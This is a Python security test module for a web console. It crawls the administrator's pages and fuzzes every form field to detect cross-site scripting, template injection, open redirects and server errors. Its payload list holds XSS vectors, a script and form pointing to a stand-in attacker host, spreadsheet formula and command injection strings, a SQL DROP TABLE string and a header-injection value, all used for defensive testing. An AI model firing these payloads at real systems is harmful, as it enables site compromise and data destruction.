"""What somebody could type to have a page do something else, and the forms they could type it into: both as served."""

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlencode, urlsplit

from httpx import Response

from tests.web.console.conftest import Browser, Staffed
from tests.web.console.crawl import addresses
from tests.web.console.eyes import Eyes

_BREAKS: Final = (
    "", '"', "'", ">", '">', "'>", "`>", "</textarea>", "</title>", "</script>", "</style>", "</option></select>",
    "-->", "]]>", "\\\"", "&quot;>", "%22%3E", "\u2028", "\u202e", "\x00\"",
)  # fmt: skip
"""Ways out of where a text stands."""
_DEEDS: Final = (
    "<script>window.hurt=1</script>", "<script src=//hurt.example></script>", "<img src=x onerror=window.hurt=1>",
    "<svg onload=window.hurt=1>", "<svg><script>window.hurt=1</script></svg>", "<details open ontoggle=window.hurt=1>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'>", "<a href=javascript:window.hurt=1>hurt</a>",
    "<form action=https://hurt.example><button>hurt</button></form>", "<base href=https://hurt.example>",
    "<meta http-equiv=refresh content='0;url=https://hurt.example'>", "<link rel=stylesheet href=//hurt.example>",
    "<style>body{display:none}hurt{}</style>", "<object data=javascript:window.hurt=1>", "<embed src=//hurt.example>",
    "<div hx-get=/console/hurt hx-trigger=load>", "<div hx-on:load=window.hurt=1>", " onmouseover=window.hurt=1 hurt=",
    " autofocus onfocus=window.hurt=1 hurt=", "{{ 1337*7 }}{% hurt %}", "${1337*7}#{1337*7}<%= 1337*7 %>",
    "=HYPERLINK(\"http://hurt.example\")", "+cmd|' /C hurt'!A0", "'; DROP TABLE users; --hurt",
    "\r\nSet-Cookie: hurt=1",
)  # fmt: skip
"""Things to have done."""
PAYLOADS: Final = tuple(f"{out}{deed}" for deed in _DEEDS for out in _BREAKS)
_RUN: Final = re.compile("(?<![0-9a-f])(?:9359)+(?![0-9a-f])")
"""What a template makes of 1337 times 7, once or several times in a row, and not four letters of a token."""
_APART: Final = 37
"""Payloads between those of two neighbouring fields."""
_TYPED: Final = {
    "",
    "text",
    "search",
    "email",
    "tel",
    "url",
    "number",
    "date",
    "datetime-local",
    "time",
    "month",
    "hidden",
}
_WRITTEN: Final = {"", "text", "search", "email", "tel", "url"}
_PLAIN: Final = {"number": "1", "date": "2026-12-01", "datetime-local": "2026-12-01T09:00", "time": "09:00"}
"""What stands in a field that nobody typed into, so that the rest of its form is taken."""
_ADDRESSES: Final = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "style",
    "content",
    "background",
    "poster",
}
_OURS: Final = {"script": "/console/static/", "link": "/console/static/"}
_NEVER: Final = {"iframe", "object", "embed", "base", "style", "frame", "applet", "math"}


@dataclass(kw_only=True)
class Posted:
    """One form of a page: where it goes, how, and what its fields hold; `typed` are those somebody can change,
    `written` those of them that take a text."""

    page: str
    action: str
    method: str
    values: list[tuple[str, str]] = field(default_factory=list)
    typed: list[str] = field(default_factory=list)
    written: list[str] = field(default_factory=list)
    button: tuple[str, str] | None = None

    def holds(self, name: str) -> bool:
        """Whether a field of this name has a value already."""
        return any(one == name for one, _value in self.values)

    def filled(self, texts: Mapping[str, str]) -> list[tuple[str, str]]:
        """What is sent where these fields hold these texts, and everything else what it held."""
        kept = [(one, value) for one, value in self.values if one not in texts]
        return [*kept, *texts.items(), *([self.button] if self.button else [])]


class Page(HTMLParser):
    """A page as a browser takes it apart: its forms, and what in it must not be there."""

    def __init__(self, text: str, address: str) -> None:
        super().__init__(convert_charrefs=True)
        self.address = address
        self.forms: list[Posted] = []
        self.hurt: list[str] = []
        self._form: Posted | None = None
        self._name, self._text, self._plain, self._inside, self._select = "", "", "", "", ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attributes}
        self._judge(tag, values)
        if tag == "form":
            action = values.get("action") or self.address.partition("?")[0]
            self._form = Posted(page=self.address, action=action, method=values.get("method", "get").lower())
            self.forms.append(self._form)
        if (
            tag == "option"
            and self._form is not None
            and ("selected" in values or (values.get("value") and not self._form.holds(self._select)))
        ):
            self._form.values.append((self._select, values.get("value", "")))
        name = values.get("name", "")
        if tag in ("script", "style", "title", "textarea"):
            self._inside, self._name, self._text = tag, name, ""
            self._plain = "x" if "required" in values else ""
        if self._form is None or not name:
            return
        if tag == "input":
            kind = values.get("type", "").lower()
            if kind in ("checkbox", "radio"):
                if "checked" in values or (kind == "radio" and not self._form.holds(name)):
                    self._form.values.append((name, values.get("value", "on")))
            elif kind != "file":
                plain = _PLAIN.get(kind, "x") if "required" in values else ""
                self._form.values.append((name, values.get("value") or plain))
            if (kind in _TYPED or kind in ("checkbox", "radio")) and name != "proof" and name not in self._form.typed:
                self._form.typed.append(name)
                if kind in _WRITTEN:
                    self._form.written.append(name)
        elif tag == "select":
            self._select = name
            self._form.typed.append(name)
        elif tag == "button" and (self._form.button is None or values.get("value") == "save"):
            self._form.button = (name, values.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == self._inside:
            if tag == "textarea" and self._form is not None and self._name:
                # A browser takes the first line end away.
                self._form.values.append((self._name, self._text.removeprefix("\n") or self._plain))
                self._form.typed.append(self._name)
                self._form.written.append(self._name)
            self._inside = ""
        elif tag == "form":
            self._form = None

    def handle_data(self, text: str) -> None:
        self._text += text
        if self._inside in ("script", "style") and "hurt" in text:
            self.hurt.append(f"<{self._inside}> {text[:60]}")

    def _judge(self, tag: str, values: dict[str, str]) -> None:
        ours = _OURS.get(tag)
        if (
            tag in _NEVER
            or (ours and not values.get("src" if tag == "script" else "href", "").startswith(ours))
            or (tag == "meta" and "http-equiv" in values)
            or any("hurt" in name or name.startswith("on") for name in values)
            or any(
                "hurt" in value and not _stays(tag, name, value)
                for name, value in values.items()
                if name in _ADDRESSES or name.startswith("hx-")
            )
        ):
            self.hurt.append(f"<{tag} {values}>"[:160])


@dataclass(kw_only=True)
class Attack:
    """Types payloads into every field of every form that is found from the first page on, as the administrator.

    `eyes`: a browser that looks at what came of each text; `written`: fields that take one and were looked at so.
    """

    desk: Staffed
    browser: Browser
    eyes: Eyes | None = None
    written: set[tuple[str, str]] = field(default_factory=set)
    faults: list[str] = field(default_factory=list)
    fields: set[tuple[str, str]] = field(default_factory=set)
    used: set[str] = field(default_factory=set)
    stored: int = 0

    def forms(self) -> Iterator[Posted]:
        """One of each kind: the same fields sent to the same kind of place count once."""
        seen = set()
        for address, answer in self.crawled().items():
            for form in Page(answer.text, address).forms:
                kind = (_kind(form.action), form.method, tuple(form.typed))
                if kind not in seen and not form.action.endswith("/salir"):
                    seen.add(kind)
                    yield form

    def run(self, share: int) -> None:
        """`share` payloads into each field, so that all are used before one is used again."""
        number = 0
        for first in list(self.forms()):
            form = self._again(first)
            for name in form.typed:
                self.fields.add((form.action, name))
                for _ in range(share):
                    if self._try(form, {name: PAYLOADS[number % len(PAYLOADS)]}):
                        form = self._again(form)
                    number += 1

    def flood(self, rounds: Iterable[int]) -> None:
        """Payloads into all fields of each form that takes a text, other ones each round: with as many rounds as there
        are payloads, each field has had each of them. Forms refuse most of it, and put back what was typed."""
        forms = [form for form in self.forms() if form.written]
        self.written = {(form.action, name) for form in forms for name in form.written}
        for number in rounds:
            for turn, form in enumerate(forms):
                some = {
                    name: PAYLOADS[(number + place * _APART) % len(PAYLOADS)] for place, name in enumerate(form.typed)
                }
                if self._try(form, some):
                    forms[turn] = self._again(form)

    def look(self) -> list[str]:
        """Every page as it is now. Returns where those are that may be seen."""
        found = self.crawled()
        for address, answer in found.items():
            self._check(answer.text, address, "")
        return [address for address, answer in found.items() if answer.status_code == 200]

    def crawled(self) -> Mapping[str, Response]:
        """What is behind every address that can be found from the first page on."""
        got: dict[str, Response] = {}

        def get(address: str) -> str:
            got[address] = self._get(address)
            return got[address].text

        found = addresses(get, self.desk.pages)
        return {address: got[address] for each in found.values() for address in each}

    def see(self, address: str) -> None:
        """Look at a page, in the browser too."""
        self._check(self._get(address).text, address, "", shown=True)

    def send_file(self, address: str, name: str, raw: bytes) -> None:
        """Send a file, and look at what is said of it."""
        self._get(address)
        answer = self.browser.post(address, files={"file": (name, raw)})
        if answer.status_code >= 500:
            self.faults.append(f"{address} {name[:60]}: {answer.status_code}")
        shown = self._get(answer.headers["location"]).text if answer.status_code == 303 else answer.text
        self._check(shown, address, f"a file {name[:60]}", shown=True)

    def _again(self, form: Posted) -> Posted:
        """The form as it is now: what was saved a moment ago has another revision, and another proof."""
        forms = Page(self._get(form.page).text, form.page).forms
        return next((one for one in forms if one.action == form.action and one.typed == form.typed), form)

    def _try(self, form: Posted, texts: Mapping[str, str]) -> bool:
        """Type it and send. True where the page took it."""
        values = form.filled(texts)
        self.used.update(texts.values())
        if form.method == "get":
            answer = self.browser.get(f"{form.action}?{urlencode(values)}")
        else:
            sent: dict[str, list[str]] = {}
            for one, value in values:
                if one != "proof":
                    sent.setdefault(one, []).append(value)
            answer = self.browser.post(form.action, sent)
        where = f"{form.method} {form.action} {str(texts)[:160]}"
        if answer.status_code >= 500:
            self.faults.append(f"{where}: {answer.status_code}")
        shown = bool(form.written)
        self._check(answer.text, form.action, where, shown=shown)
        if answer.status_code == 303:
            to = answer.headers["location"]
            if urlsplit(to).netloc or not to.startswith("/console"):
                self.faults.append(f"{where}: sent to {to}")
            elif to.startswith("/console/entrar"):
                self.browser = self.desk.browser("administrator")  # other roles of one's own end the session
            else:
                self.stored += 1
                self._check(self.browser.get(to).text, to, where, shown=shown)
            return True
        return False

    def _check(self, text: str, address: str, where: str, *, shown: bool = False) -> None:
        if self.eyes and shown and "<main" in text:
            self.eyes.look(where or address, text)
        self.faults += [f"{where or address}: {one}" for one in Page(text, address).hurt]
        if _RUN.search(text):
            self.faults.append(f"{where or address}: a template was run")

    def _get(self, address: str) -> Response:
        answer = self.browser.get(address)
        if answer.status_code >= 500:
            self.faults.append(f"{address}: {answer.status_code}")
        return answer


def _stays(tag: str, name: str, value: str) -> bool:
    """Whether an address leads nowhere but to ourselves, or out of here only for whoever clicks a link."""
    return value.startswith(("/console", "/media/", "?")) or (
        tag == "a" and name == "href" and value.startswith("https://")
    )


def _kind(path: str) -> str:
    """A path without what tells one record from another."""
    return "/".join(part if part.isalpha() and part.islower() else "*" for part in path.partition("?")[0].split("/"))


def exports(desk: Staffed) -> Sequence[str]:
    """Where files are got from that have no gap in their path."""
    return [
        f"/console{page.path}" for page in desk.pages if page.path.endswith((".csv", ".xlsx")) and "{" not in page.path
    ]
